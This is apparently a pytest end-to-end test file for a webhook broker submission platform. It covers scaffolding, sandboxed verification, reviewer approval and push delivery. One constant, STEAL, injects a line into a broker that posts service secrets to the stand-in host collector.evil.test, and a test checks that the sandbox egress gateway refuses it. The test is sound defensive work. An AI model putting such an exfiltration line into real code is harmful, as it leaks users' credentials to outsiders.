"""A vendor scaffolds, tests and submits a broker; verification runs as an RQ job in the real
sandbox through the real gateway; a reviewer approves it with the review CLI; a repo admin
enables it through the services API; a push runs it in the sandbox and it reaches a receiver.
The same with a broker that fails verification, and with one that gets changes requested and
then a second version approved."""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from brokerage.platform.cli import main
from brokerage.platform.deliveries.dispatch import Dispatcher
from brokerage.sandbox.backends import backend_from_config
from brokerage.sandbox.egress.config import GatewayConfig
from brokerage.sandbox.egress.gateway import Gateway
from brokerage.sandbox.interface import Limits
from brokerage.submissions.standins import RecordingReceiver
from tests.submissions.conftest import docker_config, docker_factory, docker_image
from tests.support import FORM, Seeder

PUSH: dict[str, Any] = {
    "scm": "git",
    "user": "marcus",
    "push_id": "6f1c7e0a-0000-4000-8000-000000000001",
    "truncated": False,
    "refs": [],
    "commits": [
        {
            "author": "marcus",
            "branch": "master",
            "files": [{"file": "somefile.py", "type": "modified"}],
            "message": "Added some more things\n",
            "node": "0000000000aa",
            "parents": [],
            "raw_author": "Marcus Bertrand <marcus@somedomain.com>",
            "raw_node": "00000000000000000000000000000000000000aa",
            "revision": None,
            "size": -1,
            "timestamp": "2012-05-30 05:58:56",
            "utctimestamp": "2012-05-30 03:58:56+00:00",
        }
    ],
}

STEAL = """
        requests.post("https://collector.evil.test/keys", json=payload["service"], timeout=5)
"""


@pytest.fixture
def receiver() -> Iterator[RecordingReceiver]:
    found = RecordingReceiver()
    yield found
    found.close()


@pytest.fixture
def tokens(seed: Seeder) -> dict[str, str]:
    from brokerage.core.accounts import Role

    seed.user("acme", Role.VENDOR)
    seed.user("rita", Role.REVIEWER)
    seed.user("marcus")
    seed.repo("marcus", "project-x")
    return {name: seed.token(name) for name in ("acme", "rita", "marcus")}


def cli(*args: str, env: dict[str, str] | None = None) -> Any:
    result = CliRunner().invoke(main, list(args), env=env or {}, catch_exceptions=False)
    return result


def scaffold(tmp_path: Path, version: str = "1.0.0", extra_code: str = "") -> Path:
    made = cli(
        "broker",
        "new",
        "acme-hook",
        "--dir",
        str(tmp_path),
        "--vendor",
        "Acme",
        "--email",
        "support@acme.example",
    )
    assert made.exit_code == 0, made.output
    folder = tmp_path / "acme-hook"
    manifest = json.loads((folder / "manifest.json").read_text())
    manifest.update(version=version, egress=["hooks.acme.test"])
    (folder / "manifest.json").write_text(json.dumps(manifest, indent=2))
    if extra_code:
        code = (folder / "broker.py").read_text()
        marker = "        response.raise_for_status()\n"
        (folder / "broker.py").write_text(code.replace(marker, marker + extra_code.lstrip("\n")))
    return folder


def submit(folder: Path, url: str, token: str) -> int:
    result = cli("broker", "submit", str(folder), "--url", url, "--token", token)
    assert result.exit_code == 0, result.output
    assert " is submitted" in result.output
    return int(result.output.split()[1].rstrip(":"))


def test_a_vendor_broker_from_scaffold_to_a_push(
    tmp_path, client, live_server, tokens, verify_with, receiver, runtime, app
) -> None:
    factory = docker_factory()
    folder = scaffold(tmp_path)

    tested = cli(
        "broker",
        "test",
        str(folder),
        env={
            "BROKERAGE_SANDBOX_BACKEND": "docker",
            "BROKERAGE_SANDBOX_IMAGE": docker_image(),
            "BROKERAGE_DATA_DIR": str(tmp_path / "v"),
        },
    )
    assert tested.exit_code == 0, tested.output
    assert "ok   fixture one_commit: succeeded (expected succeeded)" in tested.output
    assert "[receiver]" in tested.output

    submission = submit(folder, live_server.url, tokens["acme"])
    verify_with(factory)
    report = live_server.get(
        f"/1.0/submissions/{submission}/report",
        headers={"Authorization": f"Bearer {tokens['acme']}"},
    ).json()
    assert report["passed"], report["checks"]
    assert report["backend"] == "docker"
    [run] = report["transcript"]
    assert run["status"] == "succeeded" and run["received"][0]["path"] == "/hook"
    assert json.loads(run["received"][0]["body"])["commits"][0]["node"] == "620ade18607a"
    assert "service" not in json.loads(run["received"][0]["body"])  # forward_payload strips secrets

    reviewer = ["--url", live_server.url, "--token", tokens["rita"]]
    queue = cli("review", "queue", *reviewer)
    assert f"{submission:>5}  acme-hook 1.0.0  by acme" in queue.output
    shown = cli("review", "show", str(submission), *reviewer)
    assert "## broker.py" in shown.output and "verification PASSED (docker)" in shown.output
    assert "ok   fixture one_commit" in shown.output
    approved = cli("review", "approve", str(submission), "-m", "looks good", *reviewer)
    assert approved.output.strip() == f"submission {submission}: acme-hook 1.0.0 is approved"

    admin = {"Authorization": f"Bearer {tokens['marcus']}"}
    url = f"http://hooks.acme.test:{receiver.port}/hook"
    added = client.post(
        "/1.0/repositories/marcus/project-x/services",
        data=f"type=Acme Hook&URL={url}",
        headers={**admin, **FORM},
    )
    assert added.status_code == 200, added.json
    assert added.json["service"]["type"] == "Acme Hook"
    assert added.json["service"]["fields"][0] == {"name": "URL", "value": url}

    delivery = _push(client, admin)
    with _dispatcher(runtime, receiver) as dispatcher, app.app_context():
        assert dispatcher.run(delivery) == "succeeded"
    [got] = receiver.take()
    assert got.path == "/hook" and json.loads(got.body)["repository"]["slug"] == "project-x"
    shown_delivery = client.get(
        f"/1.0/repositories/marcus/project-x/deliveries/{delivery}", headers=admin
    ).json
    assert shown_delivery["status"] == "succeeded"
    assert shown_delivery["broker_version"] == "1.0.0"


def _push(client, admin: dict[str, str]) -> str:
    token = client.post("/1.0/repositories/marcus/project-x/push-token", headers=admin).json[
        "token"
    ]
    pushed = client.post(
        "/1.0/repositories/marcus/project-x/pushes",
        json=PUSH,
        headers={"Authorization": f"Bearer {token}"},
    )
    assert pushed.status_code in (200, 201, 202), pushed.json
    [delivery] = client.get("/1.0/repositories/marcus/project-x/deliveries", headers=admin).json
    return str(delivery["id"])


class _dispatcher:  # noqa: N801 - used as a context manager, reads like one
    def __init__(self, runtime, receiver: RecordingReceiver) -> None:
        names = {"hooks.acme.test": ["127.0.0.1"]}
        config = GatewayConfig(
            allowed_ports=frozenset({80, 443, receiver.port}),
            extra_ranges=("127.0.0.1/32",),
            resolver=lambda host, port: names[host],
        )
        self.gateway = Gateway(replace(config))
        self.backend = backend_from_config(
            {**docker_config(), "SANDBOX_MODE": "strict"}, egress=self.gateway
        )
        self.dispatcher = Dispatcher(
            runtime, self.backend, Limits(wall_seconds=30.0), worker_name="e2e"
        )

    def __enter__(self) -> Dispatcher:
        return self.dispatcher

    def __exit__(self, *exc: object) -> None:
        self.backend.close()
        self.gateway.close()


def test_a_broker_reaching_an_undeclared_host_fails_verification(
    tmp_path, live_server, tokens, verify_with
) -> None:
    factory = docker_factory()
    folder = scaffold(tmp_path, extra_code=STEAL)
    submission = submit(folder, live_server.url, tokens["acme"])
    verify_with(factory)
    auth = {"Authorization": f"Bearer {tokens['acme']}"}
    item = live_server.get(f"/1.0/submissions/{submission}", headers=auth).json()
    assert item["state"] == "verification_failed"
    assert item["events"][-1]["reason"] == "failed: dynamic"
    report = live_server.get(f"/1.0/submissions/{submission}/report", headers=auth).json()
    dynamic = next(c for c in report["checks"] if c["name"] == "dynamic")
    refused, undeclared = (f["message"] for f in dynamic["findings"])
    assert refused.startswith(
        "ended failed, expected succeeded: HTTPSConnectionPool(host='collector"
    )
    assert (
        undeclared == "attempted collector.evil.test, which the manifest's egress does not declare"
    )
    [run] = report["transcript"]
    stolen = next(e for e in run["egress"] if e["host"] == "collector.evil.test")
    assert (stolen["declared"], stolen["refused"]) == (False, "host_not_allowed")
    listed = cli(
        "broker", "report", str(submission), "--url", live_server.url, "--token", tokens["acme"]
    )
    assert (
        "FAIL dynamic" in listed.output
        and "[UNDECLARED] refused: host_not_allowed" in listed.output
    )
    queue = live_server.get(
        "/1.0/reviews", headers={"Authorization": f"Bearer {tokens['rita']}"}
    ).json()
    assert queue == []


def test_changes_requested_then_a_second_version_approved(
    tmp_path, client, live_server, tokens, verify_with
) -> None:
    factory = docker_factory()
    reviewer = ["--url", live_server.url, "--token", tokens["rita"]]
    first = submit(scaffold(tmp_path / "one"), live_server.url, tokens["acme"])
    verify_with(factory)
    asked = cli(
        "review",
        "request-changes",
        str(first),
        "-m",
        "please add a README section on retries",
        *reviewer,
    )
    assert asked.output.strip() == f"submission {first}: acme-hook 1.0.0 is changes_requested"

    folder = scaffold(tmp_path / "two", version="1.1.0")
    (folder / "README.md").write_text(
        (folder / "README.md").read_text() + "\n## Retries\n\nNone.\n"
    )
    second = submit(folder, live_server.url, tokens["acme"])
    verify_with(factory)
    diffed = cli("review", "diff", str(second), *reviewer)
    # against the version the reviewer last decided on (changes requested), with its comment
    assert diffed.output.startswith("against: 1.0.0 (changes_requested)\n")
    assert "  > please add a README section on retries" in diffed.output
    assert "+## Retries" in diffed.output
    approved = cli("review", "approve", str(second), *reviewer)
    assert approved.output.strip() == f"submission {second}: acme-hook 1.1.0 is approved"

    auth = {"Authorization": f"Bearer {tokens['acme']}"}
    states = {
        s["version"]: s["state"] for s in live_server.get("/1.0/submissions", headers=auth).json()
    }
    assert states == {"1.0.0": "changes_requested", "1.1.0": "approved"}
    first_events = live_server.get(f"/1.0/submissions/{first}", headers=auth).json()["events"]
    assert [(e["to"], e["by"]) for e in first_events] == [
        ("draft", "acme"),
        ("submitted", "acme"),
        ("verifying", "platform"),
        ("awaiting_review", "platform"),
        ("changes_requested", "rita"),
    ]
    assert first_events[-1]["reason"] == "please add a README section on retries"
    catalogue = client.get(
        "/1.0/brokers", headers={"Authorization": f"Bearer {tokens['marcus']}"}
    ).json
    assert [b["version"] for b in catalogue if b["name"] == "acme-hook"] == ["1.1.0"]
